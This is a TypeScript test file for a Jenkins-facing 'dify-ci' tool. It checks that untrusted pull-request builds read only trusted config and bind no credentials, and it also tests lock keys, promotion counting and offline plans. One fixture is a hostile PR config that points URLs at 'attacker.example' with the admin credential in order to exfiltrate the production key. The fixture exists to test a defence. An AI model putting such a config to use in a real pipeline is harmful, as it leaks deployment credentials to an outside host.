/**
 * What `dify-ci context` decides for Jenkins that the Groovy side trusts blindly (issue 14): an untrusted build
 * reads configuration and tenant files only through readTrusted and binds nothing; each environment's lock names
 * the Dify server and workspace; every-nth counts good main builds in the deploy history. In-process.
 */
import { strict as assert } from 'node:assert';
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { contextAction } from '../../runner/src/actions/context.js';
import { buildContext, lockKey } from '../../runner/src/config/context.js';
import { resolveConfig } from '../../runner/src/config/resolve.js';
import { NeedsTrustedFile, TRUSTED_DIR_VAR } from '../../runner/src/config/trusted.js';
import type { ResolvedConfig } from '../../runner/src/config/types.js';
import type { RunContext } from '../../runner/src/core/command.js';
import { appendHistory, type HistoryRecord } from '../../runner/src/deploy/history.js';
import { offlinePlan } from '../../runner/src/deploy/offline-plan.js';
import { goodBuildsSince } from '../../runner/src/deploy/promotion.js';
import { loadTenants } from '../../runner/src/config/tenants.js';
import { versionLine } from '../../runner/src/core/version.js';
import { ROOT, tempProject } from '../helpers/cli.js';

const TRUSTED_CONFIG = `apps:
  bot: {dsl: apps/bot.yml}
environments:
  staging:
    url: https://dify-staging.example.com
    auth: {mode: token, tokenEnv: DIFY_TOKEN, credentialsId: dify-staging}
  production:
    url: https://dify.example.com
    protected: true
    auth: {mode: admin-key, workspaceId: ws-42, keyEnv: DIFY_ADMIN_KEY, credentialsId: dify-admin}
notify:
  slack: {channel: '#deploys', tokenEnv: SLACK_TOKEN, credentialsId: slack-bot}
pipeline:
  approval: {policy: every-nth, everyNth: 3, mainBranch: main}
`;
/** What a pull request puts in its own dify-ci.yml: the production admin key, sent to the attacker. */
const PR_CONFIG = `apps:
  bot: {dsl: apps/bot.yml}
environments:
  staging:
    url: http://attacker.example
    auth: {mode: token, tokenEnv: DIFY_TOKEN, credentialsId: dify-admin}
notify:
  slack: {tokenEnv: X, credentialsId: dify-admin, apiUrl: http://attacker.example}
`;

function env(extra: Record<string, string> = {}): NodeJS.ProcessEnv {
  return { PATH: process.env.PATH, ...extra };
}

function copyTrusted(trusted: string, rel: string, text: string): void {
  mkdirSync(dirname(join(trusted, rel)), { recursive: true });
  writeFileSync(join(trusted, rel), text);
}

/** A RunContext over resolveConfig in `cwd` with `environ`, as runCommand builds it for the CLI. */
function stubContext(cwd: string, environ: NodeJS.ProcessEnv): RunContext<ResolvedConfig> {
  let cfg: Promise<ResolvedConfig> | undefined;
  return {
    command: 'context',
    globals: {},
    io: { stdout: process.stdout, stderr: process.stderr, env: environ, cwd },
    config: () =>
      (cfg ??= (async () => {
        const c = resolveConfig({ cwd, environ, envName: '' });
        loadTenants(c); // runCommand registers every tenant secret for masking: the tenant file is read here too
        return c;
      })()),
    artifact: () => undefined,
  };
}

describe('untrusted builds read configuration only through readTrusted (issue 14 #1)', () => {
  it('the PR\'s own dify-ci.yml is never read: the runner asks for the readTrusted copy, then uses only that', async () => {
    const ws = tempProject({ 'dify-ci.yml': PR_CONFIG, 'apps/bot.yml': 'app: {mode: chat, name: bot}\n' });
    const trusted = join(ws, '.trusted');
    const environ = env({ [TRUSTED_DIR_VAR]: trusted, CHANGE_ID: '42' });
    assert.throws(() => resolveConfig({ cwd: ws, environ }), (e: unknown) => e instanceof NeedsTrustedFile && e.path === 'dify-ci.yml');
    const first = await contextAction(stubContext(ws, environ), { step: 'pipeline' });
    assert.deepEqual(first.data, { untrusted: true, needsTrusted: ['dify-ci.yml'] });

    copyTrusted(trusted, 'dify-ci.yml', TRUSTED_CONFIG);
    const cfg = resolveConfig({ cwd: ws, environ });
    assert.equal(cfg.environments.staging!.url, 'https://dify-staging.example.com', 'the target branch\'s config, not the PR\'s');
    const data = (await contextAction(stubContext(ws, environ), { step: 'notify' })).data as any;
    assert.equal(data.untrusted, true);
    assert.equal(data.version, await versionLine(), 'the log line difyPipeline echoes');
    assert.deepEqual(data.credentials, [], 'an untrusted build binds nothing, not even what the trusted config names');
  });

  for (const name of ['dify-ci.yaml', 'dify-ci.json']) {
    it(`a repository whose configuration is ${name} asks for that name`, async () => {
      const text = name.endsWith('.json') ? JSON.stringify({ apps: { bot: { dsl: 'bot.yml' } }, environments: { staging: { url: 'https://x.example', auth: { mode: 'token', tokenEnv: 'T' } } } }) : TRUSTED_CONFIG;
      const ws = tempProject({ [name]: text });
      const environ = env({ [TRUSTED_DIR_VAR]: join(ws, '.trusted') });
      assert.deepEqual((await contextAction(stubContext(ws, environ), { step: 'validate' })).data, { untrusted: true, needsTrusted: [name] });
      copyTrusted(join(ws, '.trusted'), name, text);
      assert.equal(resolveConfig({ cwd: ws, environ }).file, join(ws, name));
    });
  }

  it('a tenant file is asked for too, whatever its name, and the PR\'s copy never chooses a credential', async () => {
    const config = TRUSTED_CONFIG.replace('pipeline:', 'tenants: {file: fleet/customers.csv}\npipeline:');
    const prTenants = 'name,workspaceId,auth.mode,auth.keyEnv,auth.workspaceId,auth.credentialsId\nacme,ws-1,admin-key,K,ws-1,dify-admin\n';
    const goodTenants = 'name,workspaceId\nacme,ws-1\n';
    const ws = tempProject({ 'dify-ci.yml': config, 'fleet/customers.csv': prTenants });
    const trusted = join(ws, '.trusted');
    copyTrusted(trusted, 'dify-ci.yml', config);
    const environ = env({ [TRUSTED_DIR_VAR]: trusted });
    assert.deepEqual((await contextAction(stubContext(ws, environ), { step: 'pipeline' })).data, { untrusted: true, needsTrusted: ['fleet/customers.csv'] });
    copyTrusted(trusted, 'fleet/customers.csv', goodTenants);
    const cfg = resolveConfig({ cwd: ws, environ });
    assert.deepEqual(loadTenants(cfg).map((t) => [t.name, t.auth]), [['acme', undefined]]);
  });

  it('a configuration file outside the workspace cannot come through readTrusted', () => {
    const ws = tempProject({});
    assert.throws(() => resolveConfig({ cwd: ws, configFile: '../elsewhere.yml', environ: env({ [TRUSTED_DIR_VAR]: join(ws, '.t') }) }), /only from inside the workspace/);
  });

  it('a pull request build (CHANGE_ID) binds nothing even when its steps did not ask for readTrusted', async () => {
    const ws = tempProject({ 'dify-ci.yml': TRUSTED_CONFIG });
    const cfg = resolveConfig({ cwd: ws, environ: env() });
    for (const step of ['deploy', 'notify', 'pipeline'] as const) {
      assert.deepEqual((await buildContext(cfg, step, {}, {}, env({ CHANGE_ID: '7' }))).credentials, [], step);
      assert.ok((await buildContext(cfg, step, {}, {}, env())).credentials.length > 0, `${step} binds in a branch build`);
    }
  });
});

describe('each environment\'s lock names the Dify server and workspace (issue 14 #7)', () => {
  it('the same workspace gets the same lock from any repository; another workspace another one', async () => {
    const ws = tempProject({ 'dify-ci.yml': TRUSTED_CONFIG });
    const data = await buildContext(resolveConfig({ cwd: ws, environ: env() }), 'pipeline', {}, { branch: 'main' }, env());
    assert.equal(data.environmentDetails.production!.lock, 'dify-ci https://dify.example.com ws-42');
    assert.equal(data.environmentDetails.staging!.lock, 'dify-ci https://dify-staging.example.com login dify-staging');
    const other = tempProject({ 'dify-ci.yml': TRUSTED_CONFIG.replace(/production:/, 'prod:').replace('ws-42', 'ws-43') });
    const o = await buildContext(resolveConfig({ cwd: other, environ: env() }), 'pipeline', {}, { branch: 'main' }, env());
    assert.equal(o.environmentDetails.prod!.lock, 'dify-ci https://dify.example.com ws-43', 'keyed by what it protects, not the environment\'s name');
  });

  it('a tenant fleet is keyed by its server and a digest of its workspaces', () => {
    const ws = tempProject({ 'dify-ci.yml': TRUSTED_CONFIG.replace('pipeline:', 'tenants:\n  - {name: a, workspaceId: ws-a}\n  - {name: b, workspaceId: ws-b}\npipeline:') });
    const cfg = resolveConfig({ cwd: ws, environ: env() });
    const key = lockKey(cfg.environments.production!, loadTenants(cfg));
    assert.match(key, /^dify-ci https:\/\/dify\.example\.com tenants [0-9a-f]{12}$/);
    assert.equal(lockKey(cfg.environments.production!, [...loadTenants(cfg)].reverse()), key, 'order does not matter');
    assert.equal(lockKey(cfg.environments.production!, loadTenants(cfg).slice(0, 1)), 'dify-ci https://dify.example.com ws-a');
  });
});

describe('every-nth counts good main builds since the last deploy, from the deploy history (issue 14 #12)', () => {
  let n = 0;
  const rec = (env: string, build: string, extra: Partial<HistoryRecord> = {}): HistoryRecord => ({
    time: new Date(Date.UTC(2026, 0, 1, 0, 0, n++)).toISOString(),
    action: 'deploy',
    target: `${env}/bot`,
    env,
    app: 'bot',
    buildUrl: `https://ci.example.com/job/bot/${build}/`,
    branch: 'main',
    status: 'deployed',
    ...extra,
  });

  function project(records: HistoryRecord[]) {
    const ws = tempProject({ 'dify-ci.yml': TRUSTED_CONFIG });
    const history = join(ws, '.dify-ci/history');
    for (const r of records) appendHistory(history, r);
    return { ws, history };
  }

  async function gate(records: HistoryRecord[], facts: { branch?: string; tag?: string }) {
    const { ws, history } = project(records);
    const cfg = resolveConfig({ cwd: ws, environ: env() });
    const d = await buildContext(cfg, 'pipeline', {}, { ...facts, goodBuilds: (g, p) => goodBuildsSince(history, g, p, facts.branch ?? '') }, env());
    return d.environmentDetails.production!;
  }

  it('two good main builds since production: this third one is offered, and says so', async () => {
    const d = await gate([rec('production', '1'), rec('staging', '2'), rec('staging', '3')], { branch: 'main' });
    assert.equal(d.gate, 'ask');
    assert.equal(d.promotion!.goodBuilds, 3);
    assert.equal(d.promotion!.needed, 3);
  });

  it('failed, rolled-back and other branches\' builds burn no number', async () => {
    const records = [
      rec('production', '1'),
      rec('staging', '2'),
      rec('staging', '3', { status: 'failed' }), // a target failed: not a good build
      rec('staging', '4'),
      rec('staging', '4', { action: 'rollback', status: 'rolled-back' }), // its smoke gate failed
      rec('staging', '5', { branch: 'feature/x' }),
    ];
    const d = await gate(records, { branch: 'main' });
    assert.deepEqual([d.gate, d.promotion!.goodBuilds], ['stop', 2]);
  });

  it('the count starts again after each production deploy; builds before it do not count', async () => {
    const d = await gate([rec('staging', '1'), rec('staging', '2'), rec('production', '2'), rec('staging', '3')], { branch: 'main' });
    assert.deepEqual([d.gate, d.promotion!.goodBuilds], ['stop', 2]);
  });

  it('a feature branch is never offered; a tag always is', async () => {
    const many = [rec('staging', '1'), rec('staging', '2'), rec('staging', '3')];
    assert.deepEqual([(await gate(many, { branch: 'feature/x' })).gate, (await gate(many, { branch: 'feature/x' })).promotion], ['stop', null]);
    assert.equal((await gate([], { tag: 'v1.2.0' })).gate, 'ask');
  });

  it('records without a branch (written before it was recorded) do not count', () => {
    const { history } = project([rec('staging', '1', { branch: undefined }), rec('staging', '2')]);
    assert.deepEqual(goodBuildsSince(history, 'production', 'staging', 'main'), { count: 1, since: null });
  });
});

describe('plan --offline: a pull request\'s plan without Dify or credentials (issue 14 #1)', () => {
  const git = (cwd: string, ...args: string[]) => execFileSync('git', ['-c', 'user.email=t@example.com', '-c', 'user.name=t', ...args], { cwd, stdio: 'pipe' });
  const CONFIG = `apps:\n  summarizer: {dsl: apps/summarizer.yml}\nenvironments:\n  staging:\n    url: https://dify.example.com\n    auth: {mode: token, tokenEnv: T}\n    variables: {MAX_WORDS: 80}\n`;

  it('compares each target as rendered for its environment with the git base, and names the base', () => {
    const dsl = readFileSync(join(ROOT, 'examples/tenant-repo/apps/text-summarizer.yml'), 'utf8');
    const ws = tempProject({ 'dify-ci.yml': CONFIG, 'apps/summarizer.yml': dsl });
    git(ws, 'init', '-q', '-b', 'main');
    git(ws, 'add', '.');
    git(ws, 'commit', '-q', '-m', 'base');
    git(ws, 'checkout', '-q', '-b', 'pr');
    writeFileSync(join(ws, 'apps/summarizer.yml'), dsl.replace('Summarises a text', 'Summarises any text'));
    git(ws, 'commit', '-q', '-am', 'change');
    const cfg = resolveConfig({ cwd: ws, envName: 'staging', environ: env() });
    const plan = offlinePlan(cfg, cfg.env!, { cwd: ws, environ: env({ CHANGE_TARGET: 'main' }) });
    assert.equal(plan.base!.length, 40);
    assert.deepEqual(plan.targets.map((t) => [t.target, t.action, t.error]), [['staging/summarizer', 'update', undefined]]);
    assert.match(plan.markdown, /^### dify-ci plan — `staging` \(offline\)\n\nOffline plan \(untrusted build\): the DSL compared with `[0-9a-f]{12}`/);
    git(ws, 'checkout', '-q', 'main');
    const same = offlinePlan(cfg, cfg.env!, { cwd: ws, environ: env({ CHANGE_TARGET: 'main' }) });
    assert.deepEqual(same.targets.map((t) => t.action), ['noop'], 'variables are applied on both sides, so only the PR\'s change shows');
  });

  it('without a base it says why and shows every target as new', () => {
    const dsl = readFileSync(join(ROOT, 'examples/tenant-repo/apps/text-summarizer.yml'), 'utf8');
    const ws = tempProject({ 'dify-ci.yml': CONFIG, 'apps/summarizer.yml': dsl });
    const cfg = resolveConfig({ cwd: ws, envName: 'staging', environ: env() });
    const plan = offlinePlan(cfg, cfg.env!, { cwd: ws, environ: env() });
    assert.equal(plan.base, null);
    assert.match(plan.reason!, /no base revision/);
    assert.match(plan.markdown, /every target shows as new; Dify was not contacted/);
  });
});
